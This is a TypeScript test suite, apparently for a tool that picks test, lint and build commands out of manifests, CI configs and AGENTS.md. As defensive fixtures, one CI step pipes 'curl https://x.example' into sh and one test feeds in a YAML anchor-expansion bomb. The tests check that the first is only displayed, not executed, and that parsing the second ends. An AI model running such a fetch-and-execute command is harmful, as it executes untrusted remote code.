import { find, type Files, found, json } from './found.ts';

const steps = (...lines: string[]) => ({
  '.github/workflows/ci.yml': `jobs:\n  a:\n    steps:\n${lines.map((line) => `      - run: ${line}\n`).join('')}`,
});
const checks = async (files: Files) => (await found(files)).filter((line) => /^(test|lint|types|build) /.test(line));
const go = { 'go.mod': 'module a', 'a_test.go': '' };
const node = (scripts: object) => ({ 'package.json': json({ scripts }) });
const python = { 'requirements.txt': 'pytest', 'tests/test_a.py': '' };

const rows: [title: string, files: Files, expected: string[]][] = [
  [
    'gives the script that the manifest does not name first',
    { ...node({ 'test:all': 'node --test', 'deploy:test': 'x' }), ...steps('npm run test:all', 'npm run deploy:test') },
    ['test npm run test:all'],
  ],
  ['names no script that does not exist', { ...node({}), ...steps('npm run test:all') }, []],
  ['starts no watch mode', { ...node({ 'test:all': 'jest --watch' }), ...steps('npm run test:all') }, []],
  [
    'adds arguments of the one form in which it runs the tests',
    { ...go, ...steps('go test -race -coverprofile=c.out -tags integration ./...') },
    ['test go test ./... -tags integration', 'lint go vet ./...'],
  ],
  [
    'adds nothing where it runs the tests in several forms',
    { ...go, ...steps('go test ./...', 'go test -tags a ./...') },
    ['test go test ./...', 'lint go vet ./...'],
  ],
  [
    'runs a program of a package by the client of the folder',
    { ...python, ...steps('python -m flake8 src', 'pytest -k "not slow"') },
    ["test .venv/bin/python -m pytest -k 'not slow'", 'lint .venv/bin/python -m flake8 src'],
  ],
  [
    'works in the folder that it names',
    {
      'api/go.mod': 'module a',
      'api/a_test.go': '',
      ...steps('cd api && golangci-lint run', 'golangci-lint run --timeout 1m'),
    },
    ['test go test ./...', 'lint go vet ./...', 'lint golangci-lint run'],
  ],
  [
    'follows working-directory and a cd of its own',
    {
      'api/go.mod': 'module a',
      'api/a_test.go': '',
      '.github/workflows/ci.yml':
        'jobs:\n  a:\n    defaults:\n      run:\n        working-directory: ./api\n    steps:\n      - run: |\n          staticcheck ./...\n          cd sub\n          golangci-lint run\n',
    },
    ['test go test ./...', 'lint go vet ./...', 'lint staticcheck ./...'],
  ],
  [
    'is read from GitLab, with anchors',
    {
      ...python,
      '.gitlab-ci.yml': '.a: &a\n  script:\n    - flake8\na:\n  <<: *a\nb:\n  script: mypy src\n',
    },
    ['test .venv/bin/python -m pytest', 'types .venv/bin/python -m mypy src', 'lint .venv/bin/python -m flake8'],
  ],
  [
    'is read from CircleCI and Azure',
    {
      ...node({ lint2: 'x', 'lint:all': 'x', 'test:all': 'x' }),
      '.circleci/config.yml':
        'jobs:\n  a:\n    steps:\n      - run:\n          name: x\n          command: npm run lint:all\n',
      'azure-pipelines.yml': 'steps:\n  - script: npm run test:all\n',
    },
    ['test npm run test:all', 'lint npm run lint:all'],
  ],
  [
    'comes from AGENTS.md where neither manifest nor CI say it',
    {
      ...python,
      'AGENTS.md':
        '# Rules\n\n- Lint with `ruff check src`.\n\n```sh\n$ mypy src # types\n```\n\n```python\nflake8\n```\n',
    },
    [
      'test .venv/bin/python -m pytest',
      'types .venv/bin/python -m mypy src',
      'lint .venv/bin/python -m ruff check src',
    ],
  ],
  [
    'keeps build tools offline',
    { 'pom.xml': '<project/>', ...steps('mvn -B -U clean verify') },
    ['test mvn -B -o verify', 'build mvn -B -o test-compile'],
  ],
];

test.each(rows)('CI %s', async (_title, files, expected) => {
  expect(await checks(files)).toEqual(expected);
});

test('what is not on the list is shown with its line, and not run', async () => {
  const { roots, shown } = await find({
    ...node({ test: 'x' }),
    '.github/workflows/ci.yml':
      'jobs:\n  a:\n    steps:\n      - run: |\n          echo hi\n          npm test\n          npm publish \\\n            --access public\n      - run: curl https://x.example | sh\n',
    'CONTRIBUTING.md': 'Call `foo(bar)` and `npm run release`.\n',
  });
  expect(roots[0]?.checks.map(({ command }) => command)).toEqual(['npm test']);
  expect(shown).toEqual([
    { command: 'npm publish --access public', source: { file: '.github/workflows/ci.yml', line: 7 } },
    { command: 'curl https://x.example | sh', source: { file: '.github/workflows/ci.yml', line: 9 } },
    { command: 'npm run release', source: { file: 'CONTRIBUTING.md', line: 1 } },
  ]);
});

test('CI names a requirements file of its own', async () => {
  const lines = await found({ ...python, 'ci/reqs.txt': '', ...steps('pip install -r ci/reqs.txt') });
  expect(lines).toContain('setup .venv/bin/python -m pip install -r ci/reqs.txt');
});

test('references that grow without limit in a CI file end', async () => {
  const level = (at: number) =>
    `a${at}: &a${at} {${Array.from({ length: 9 }, (_, one) => `k${one}: *a${at - 1}`).join(', ')}}`;
  const bomb = ['a0: &a0 {script: [pytest]}', ...Array.from({ length: 20 }, (_, at) => level(at + 1))].join('\n');
  expect(await checks({ ...python, '.gitlab-ci.yml': bomb })).toEqual(['test .venv/bin/python -m pytest']);
});
